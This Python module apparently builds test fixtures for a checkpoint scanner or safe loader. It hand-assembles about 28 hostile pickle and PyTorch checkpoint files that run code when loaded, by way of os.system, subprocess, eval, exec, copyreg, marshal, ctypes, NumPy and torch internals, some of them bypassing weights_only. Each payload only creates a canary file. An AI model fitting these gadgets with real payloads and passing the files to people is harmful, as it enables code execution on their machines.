"""Hostile pickles, put together by hand: each makes a file, the canary, when somebody reads it the plain way.

They are written instruction by instruction (opcodes of `pickletools`), because `pickle.dumps` makes few of these
forms. A name in the comments is the gadget's: what a reader would look for in a log.
"""

from __future__ import annotations

import io
import marshal
import pickle
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import torch

PROTO2, PROTO4 = b"\x80\x02", b"\x80\x04"
STOP, REDUCE, BUILD, MARK, TUPLE, TUPLE1, TUPLE2 = b".", b"R", b"b", b"(", b"t", b"\x85", b"\x86"
EMPTY_DICT, EMPTY_TUPLE, SETITEM, NEWOBJ, NEWOBJ_EX = b"}", b")", b"s", b"\x81", b"\x92"
STACK_GLOBAL, INST, OBJ, EXT1, POP, PERSID = b"\x93", b"i", b"o", b"\x82", b"0", b"P"


@dataclass(frozen=True, slots=True, kw_only=True)
class Gadget:
    """One hostile checkpoint.

    Attributes:
        name: what it tries.
        suffix: of its file.
        write: makes the file, for a canary at the second path.
        runs_plainly: whether a reader that trusts it runs it: the plain ``pickle.load``, or PyTorch's own
            ``torch.load`` with ``weights_only=False`` for files that only PyTorch reads. TorchScript is no pickle of
            this kind: its program is run by PyTorch's interpreter, which makes no files.
    """

    name: str
    suffix: str
    write: Callable[[Path, Path], None]
    runs_plainly: bool = True


def word(text: str) -> bytes:
    """BINUNICODE."""
    data = text.encode()
    return b"X" + len(data).to_bytes(4, "little") + data


def blob(data: bytes) -> bytes:
    """BINBYTES."""
    return b"B" + len(data).to_bytes(4, "little") + data


def name_of(module: str, name: str) -> bytes:
    """GLOBAL."""
    return f"c{module}\n{name}\n".encode()


def called(function: bytes, *arguments: bytes) -> bytes:
    """REDUCE of a function with arguments."""
    return function + MARK + b"".join(arguments) + TUPLE + REDUCE


def python(canary: Path) -> str:
    """An expression that makes the canary."""
    return f"open({str(canary)!r}, 'w').close()"


def shell(canary: Path) -> str:
    """A command that makes the canary."""
    return f'echo > "{canary}"'


SYSTEM = name_of("os", "system")


def _plain(canary: Path) -> bytes:
    return called(SYSTEM, word(shell(canary)))


def _popen(canary: Path) -> bytes:
    return called(
        name_of("subprocess", "call"), word(shell(canary)), b"J\xff\xff\xff\xff", b"N", b"N", b"N", b"N", b"N",
        b"\x88", b"\x88",
    )  # fmt: skip


def _eval(canary: Path) -> bytes:
    return called(name_of("builtins", "eval"), word(python(canary)))


def _exec(canary: Path) -> bytes:
    return called(name_of("builtins", "exec"), word(python(canary)))


def _python2_names(canary: Path) -> bytes:
    return called(name_of("__builtin__", "eval"), word(python(canary)))


def _getattr_chain(canary: Path) -> bytes:
    module = called(name_of("importlib", "import_module"), word("os"))
    return called(called(name_of("builtins", "getattr"), module, word("system")), word(shell(canary)))


def _stack_global(canary: Path) -> bytes:
    return word("os") + word("system") + STACK_GLOBAL + word(shell(canary)) + TUPLE1 + REDUCE


def _inst(canary: Path) -> bytes:
    return MARK + word(shell(canary)) + INST + b"os\nsystem\n"


def _obj(canary: Path) -> bytes:
    return MARK + SYSTEM + word(shell(canary)) + OBJ


def _lazy_map(canary: Path) -> bytes:
    """A `map` over the shell, which `bytes` then walks through: no function is ever called by the pickle itself."""
    walked = name_of("builtins", "map") + MARK + SYSTEM + MARK + word(shell(canary)) + TUPLE + TUPLE + NEWOBJ
    return name_of("builtins", "bytes") + walked + TUPLE1 + NEWOBJ


def _newobj_ex(canary: Path) -> bytes:
    walked = name_of("builtins", "map") + MARK + SYSTEM + MARK + word(shell(canary)) + TUPLE + TUPLE
    walked += EMPTY_DICT + NEWOBJ_EX
    return name_of("builtins", "bytes") + walked + TUPLE1 + EMPTY_DICT + NEWOBJ_EX


def _build_setstate(canary: Path) -> bytes:
    """The first BUILD gives an object a ``__setstate__`` of the file's choice, the second calls it."""
    thing = called(name_of("types", "SimpleNamespace"))
    return thing + EMPTY_DICT + word("__setstate__") + SYSTEM + SETITEM + BUILD + word(shell(canary)) + BUILD


def _copyreg(canary: Path) -> bytes:
    words = b"]" + MARK + word("sh") + word("-c") + word(shell(canary)) + b"e"
    popen = name_of("subprocess", "Popen")
    return called(name_of("copyreg", "_reconstructor"), popen, popen, words)


def _extension(canary: Path) -> bytes:
    added = called(name_of("copyreg", "add_extension"), word("os"), word("system"), b"K\x77") + POP
    return added + EXT1 + b"\x77" + word(shell(canary)) + TUPLE1 + REDUCE


def _nested_loads(canary: Path) -> bytes:
    return called(name_of("pickle", "loads"), blob(PROTO2 + _plain(canary) + STOP))


def _torch_storage(canary: Path) -> bytes:
    return called(name_of("torch.storage", "_load_from_bytes"), blob(legacy(_plain(canary))))


def _torch_rebuild(canary: Path) -> bytes:
    return called(
        name_of("torch._tensor", "_rebuild_from_type_v2"),
        SYSTEM, name_of("builtins", "int"), MARK + word(shell(canary)) + TUPLE, EMPTY_DICT,
    )  # fmt: skip


def _torch_load_partial(canary: Path) -> bytes:
    """`torch.load` itself, told by a `partial` not to be careful, on bytes within the pickle."""
    partial = called(name_of("functools", "partial"), name_of("torch", "load"))
    keywords = EMPTY_DICT + word("weights_only") + b"\x89" + SETITEM
    careless = partial + MARK + name_of("torch", "load") + EMPTY_TUPLE + keywords + EMPTY_DICT + TUPLE + BUILD
    return called(careless, called(name_of("io", "BytesIO"), blob(legacy(_plain(canary)))))


def _numpy_exec(canary: Path) -> bytes:
    return called(name_of("numpy.testing._private.utils", "runstring"), word(python(canary)), EMPTY_DICT)


def _numpy_object(canary: Path) -> bytes:
    """A NumPy scalar of kind object, whose value is a call."""
    kind = called(name_of("numpy", "dtype"), word("O8"), b"\x89", b"\x88")
    return called(name_of("numpy._core.multiarray", "scalar"), kind, _plain(canary))


def _marshal(canary: Path) -> bytes:
    code = blob(marshal.dumps(compile(python(canary), "x", "eval")))
    space = called(name_of("builtins", "dict"))
    return called(called(name_of("types", "FunctionType"), called(name_of("marshal", "loads"), code), space))


def _ctypes(canary: Path) -> bytes:
    library = called(name_of("ctypes", "CDLL"), b"N")
    return called(called(name_of("builtins", "getattr"), library, word("system")), blob(shell(canary).encode()))


def _timeit(canary: Path) -> bytes:
    return called(name_of("timeit", "timeit"), word(python(canary)), word("pass"), name_of("time", "time"), b"K\x01")


def _methodcaller(canary: Path) -> bytes:
    caller = called(name_of("operator", "methodcaller"), word("system"), word(shell(canary)))
    return called(caller, called(name_of("importlib", "import_module"), word("os")))


def _persistent_id(canary: Path) -> bytes:
    """The id of a storage is a call: worked out before PyTorch is asked for the storage."""
    return MARK + word("storage") + _plain(canary) + word("0") + word("cpu") + b"K\x01" + TUPLE + b"Q"


def legacy(body: bytes) -> bytes:
    """PyTorch's format before 1.6: magic number, version, machine, the object, keys of its storages."""
    head = b"".join(pickle.dumps(part, 2) for part in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True}))
    return head + PROTO2 + body + STOP + pickle.dumps([], 2)


def in_table(body: bytes) -> bytes:
    """The call as the value of a state dict's entry."""
    return EMPTY_DICT + word("state_dict") + body + SETITEM


def zipped(pickled: bytes, original: dict[str, torch.Tensor] | None = None) -> bytes:
    """An archive of ``torch.save`` in which another table of tensors lies in the place of the true one."""
    true, swapped = io.BytesIO(), io.BytesIO()
    torch.save(original or {"conv.weight": torch.zeros(3)}, true)
    with zipfile.ZipFile(true) as old, zipfile.ZipFile(swapped, "w") as new:
        for info in old.infolist():
            new.writestr(info.filename, pickled if info.filename.endswith("data.pkl") else old.read(info))
    return swapped.getvalue()


def _tar(canary: Path) -> bytes:
    """PyTorch's oldest format, whose reader takes its members apart with the plain pickle."""
    stored = io.BytesIO()
    members = {
        "storages": pickle.dumps(0, 2) + pickle.dumps([], 2),
        "tensors": pickle.dumps(0, 2),
        "pickle": PROTO2 + _plain(canary) + STOP,
    }
    with tarfile.open(fileobj=stored, mode="w") as tar:
        for name, data in members.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(data)
            tar.addfile(entry, io.BytesIO(data))
    return stored.getvalue()


def _torchscript(path: Path, canary: Path) -> None:
    """A compiled network, code and all, as ``torch.jit.save`` lays it out."""
    source = f"class Net(Module):\n  def forward(self) -> str:\n    return {str(canary)!r}\n"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("net/data.pkl", PROTO2 + EMPTY_DICT + STOP)
        archive.writestr("net/code/__torch__.py", source)
        archive.writestr("net/constants.pkl", PROTO2 + EMPTY_TUPLE + STOP)
        archive.writestr("net/version", "3\n")


def _as_legacy(body: Callable[[Path], bytes]) -> Callable[[Path, Path], None]:
    return lambda path, canary: _write(path, legacy(in_table(body(canary))))


def _as_zip(body: Callable[[Path], bytes]) -> Callable[[Path, Path], None]:
    return lambda path, canary: _write(path, zipped(PROTO2 + in_table(body(canary)) + STOP))


def _bare(body: Callable[[Path], bytes], proto: bytes = PROTO2) -> Callable[[Path, Path], None]:
    return lambda path, canary: _write(path, proto + in_table(body(canary)) + STOP)


def _write(path: Path, data: bytes) -> None:
    path.write_bytes(data)


def _gadget(name: str, write: Callable[[Path, Path], None], suffix: str = ".pth") -> Gadget:
    return Gadget(name=name, suffix=suffix, write=write)


GADGETS = (
    _gadget("os.system by REDUCE, swapped into a true archive", _as_zip(_plain)),
    _gadget("os.system by INST, protocol 0", _bare(_inst, b"")),
    _gadget("os.system by OBJ", _bare(_obj)),
    _gadget("os.system by STACK_GLOBAL, protocol 4", _bare(_stack_global, PROTO4)),
    _gadget("os.system behind a lazy map, by NEWOBJ", _as_zip(_lazy_map)),
    _gadget("os.system behind a lazy map, by NEWOBJ_EX", _bare(_newobj_ex, PROTO4)),
    _gadget("os.system as __setstate__, by two BUILD", _as_zip(_build_setstate)),
    _gadget("os.system through copyreg's extension registry, by EXT1", _bare(_extension)),
    _gadget("os.system in the id of a storage, by BINPERSID, legacy format", _as_legacy(_persistent_id)),
    _gadget("os.system in the legacy format", _as_legacy(_plain)),
    _gadget("os.system in the tar format", lambda path, canary: _write(path, _tar(canary)), ".tar"),
    _gadget("subprocess.call", _as_zip(_popen)),
    _gadget("subprocess.Popen through copyreg._reconstructor", _bare(_copyreg)),
    _gadget("eval", _as_zip(_eval), ".pt"),
    _gadget("eval under its name of Python 2", _as_legacy(_python2_names), ".pt"),
    _gadget("exec", _bare(_exec), ".pkl"),
    _gadget("getattr of an imported module", _as_zip(_getattr_chain), ".ckpt"),
    _gadget("operator.methodcaller", _as_zip(_methodcaller)),
    _gadget("pickle.loads of a pickle within", _as_zip(_nested_loads)),
    _gadget("torch.storage._load_from_bytes of a checkpoint within", _as_zip(_torch_storage)),
    _gadget("torch.load with weights_only=False through functools.partial", _as_zip(_torch_load_partial)),
    _gadget("torch._tensor._rebuild_from_type_v2 of a function", _as_zip(_torch_rebuild)),
    _gadget("NumPy's runstring", _as_zip(_numpy_exec)),
    _gadget("a NumPy scalar of kind object", _as_legacy(_numpy_object)),
    _gadget("a function made of marshalled code", _as_zip(_marshal)),
    _gadget("the C library through ctypes", _as_zip(_ctypes)),
    _gadget("timeit.timeit", _bare(_timeit), ".bin"),
    Gadget(name="program code of TorchScript", suffix=".pt", write=_torchscript, runs_plainly=False),
)
